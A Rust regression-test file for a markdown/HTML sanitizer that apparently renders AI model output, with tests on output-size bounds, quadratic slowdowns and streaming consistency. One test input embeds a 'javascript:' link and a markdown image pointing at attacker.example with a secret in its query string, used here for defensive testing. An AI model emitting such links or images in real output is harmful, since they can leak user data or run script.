/// Found by the `markdown` fuzz target (`fuzz/regressions/markdown/footnote-between-text-nodes`):
/// under `"raw_html": "escape"`, the line feed after a paragraph was written before a footnote's
/// definition (whose output goes to the end), and the escaped HTML block after it was bounded
/// as a text node of its own, though a parser reads the two as one: 1 + 2,047 bytes, cut by
/// the HTML stage where the markdown writer had not cut (output not a fixpoint). The writer
/// now bounds a run as the rest of the text node the output ends with. The search over every
/// such block, filler and mode is `tests/bounds.rs`' `every_node_across_the_node_bound_is_a_fixpoint`.
#[test]
fn text_after_a_block_written_elsewhere_is_bounded_with_the_text_before() {
    let s = Sanitizer::from_json(r#"{"raw_html": "escape"}"#).unwrap();
    for n in 2_040..2_056 {
        for input in [
            format!("x\n[^1]: n\n<?{}", "a".repeat(n)),
            format!("x[^1]\n\n[^1]: n\n\n{}", "a".repeat(n)),
        ] {
            let out = common::check(&s, &common::Trusted::default(), true, &input, "escape")
                .unwrap_or_else(|e| panic!("{n}: {e}"));
            // Every text node of the output is within the bound, as a parser reads it.
            for piece in out.html.split(['<', '>']).step_by(2) {
                let len = piece.replace("&lt;", "<").replace("&amp;", "&").len();
                assert!(len <= 2 * 1024, "{n}: a text node of {len} bytes");
            }
        }
    }
}

/// Found 2026-12-04 by a search of the output bound's slope over every construct in every
/// container (`tests/limits.rs`' `output_bound_holds_for_every_construct_in_every_container`):
/// a table row shorter than its header was completed with empty cells whatever its length,
/// so a header of 362 columns over 725 rows of one character (2.9 KB) wrote 2.4 MB. A row now
/// gets at most one empty cell for every 2 bytes of its own source, and at least one; rows as
/// models write them are completed whole, and no cell of the source is ever left out.
#[test]
fn short_table_rows_under_a_wide_header_are_completed_within_a_bound() {
    let s = Sanitizer::from_json("{}").unwrap();
    let trusted = common::Trusted::default();
    let header = |columns: usize| format!("|{}\n|{}\n", "a|".repeat(columns), "-|".repeat(columns));
    let input = [header(362), "a\n".repeat(725)].concat();
    let out = common::check(&s, &trusted, true, &input, "wide").unwrap_or_else(|e| panic!("{e}"));
    let cells = |html: &str| html.matches("<td>").count() + html.matches("<td ").count();
    assert_eq!(
        cells(&out.html),
        725 * 2,
        "one cell of text and one completed, per row"
    );
    // Rows as models write them: completed whole.
    for (row, columns) in [
        ("| yes | no |\n", 5),
        ("| x |\n", 2),
        ("| bar |\n", 2),
        ("|a|\n", 2),
    ] {
        let html = s
            .render_markdown(&[header(columns), row.to_string()].concat())
            .unwrap()
            .html;
        assert_eq!(
            cells(&html),
            columns,
            "{row:?} under {columns} columns: {html}"
        );
    }
    // Cells of the source are kept, however many there are for the row's length.
    let html = s
        .render_markdown(&[header(64), "|".repeat(40), "\n".into()].concat())
        .unwrap()
        .html;
    assert_eq!(cells(&html), 39 + 20, "{html}");
}

/// Found 2026-12-04 by the output bound's search (`tests/limits.rs`' reconstruction
/// contexts): the HTML tree builder reopens the formatting elements a block closed, with
/// their attributes, before each piece of text, so `<p>` and 100 `<b id=N>` then `<p>x`
/// repeated made 11.5 MB of output from 7.9 KB. The depth bound's parse now counts the
/// elements created (one each and their attributes' bytes, at most two a byte of input):
/// past that, the raw HTML is shown as text.
#[test]
fn formatting_elements_reopened_before_every_text_are_bounded() {
    let s = Sanitizer::from_json(r#"{"raw_html": "sanitize"}"#).unwrap();
    let trusted = common::Trusted::default();
    let formatting: String = (0..100).map(|i| format!("<b id={i}>")).collect();
    let input = format!("<p>{formatting}{}", "<p>x".repeat(1000));
    for markdown in [true, false] {
        let out = common::check(&s, &trusted, markdown, &input, "reopened")
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(
            !out.html.contains("<b"),
            "shown as text: {}",
            &out.html[..200]
        );
        assert!(out.html.contains("&lt;b id=99&gt;"), "{}", &out.html[..200]);
    }
    // A few reopened, as prose does (`<p><b>Note:</p><p>more`), are kept.
    let input = "<p><b>Note:<p>more<p>and more".repeat(200);
    let out = common::check(&s, &trusted, false, &input, "prose").unwrap_or_else(|e| panic!("{e}"));
    assert!(
        out.html.contains("<b>") && !out.html.contains("&lt;b"),
        "{}",
        &out.html[..200]
    );
}

/// Found 2026-12-04 by the slowness check's grid: a group of raw HTML takes in the line feeds
/// the output ends with (text its first text would join), and a group that sanitized to
/// whitespace only (an unknown element removed, a comment) added its own after them, so each
/// such block lengthened the run the next one took in and sanitized again: quadratic
/// (`<x>` in blocks of their own, or a comment and a footnote definition, repeated: 56 KB
/// took 1.5 s, 1 MiB minutes). Now such a group writes nothing: the run stays one line feed
/// whatever the number of blocks, and the output is a fixpoint.
#[test]
fn removed_blocks_do_not_lengthen_the_run_of_line_feeds() {
    for unit in [
        "<x>\n\n",
        "<x/>\n\n",
        "<custom-el>\n\n",
        "<!---->\n\n[^1]: a\n\n",
        "<x></x>\n\n[^1]: a\n\n",
        "<!-- note -->\n\n[^1]: a\n\n",
    ] {
        let out = assert_ok(true, &unit.repeat(2_000));
        let longest_run = out
            .html
            .split(|c: char| c != '\n')
            .map(str::len)
            .max()
            .unwrap_or(0);
        assert!(
            longest_run <= 2,
            "{unit:?}: a run of {longest_run} line feeds"
        );
    }
}

/// Found 2026-12-04 by the stream property test on the first form of the fix above (a group
/// of whitespace only wrote nothing after line feeds it took in, but its whitespace where it
/// took in none): a stray `</details>` after a paragraph sanitizes to a line feed, and the
/// stream's tail, rendered after a token without the line feed before the group, read
/// `</p>\n\n<p>` where the tail asked again read `</p>\n<p>`. Such a group now writes nothing
/// in every context. Checked with the stream oracle at every cut of the input.
#[test]
fn a_group_of_whitespace_only_reads_the_same_in_every_context() {
    let s = default();
    let input = "[l](javascript:alert(1)) `open lazy continuation\n![i](https://attacker.example/p.png?d=SECRET) \r\r\n</details>\n\r\ntext ";
    for cut in (1..input.len()).filter(|&cut| input.is_char_boundary(cut)) {
        let pushes = [
            common::Push::Str(&input[..cut]),
            common::Push::Str(&input[cut..]),
        ];
        common::check_stream(&s, None, input, &pushes, |_, _| Ok(()))
            .unwrap_or_else(|e| panic!("cut at {cut}: {e}"));
    }
}
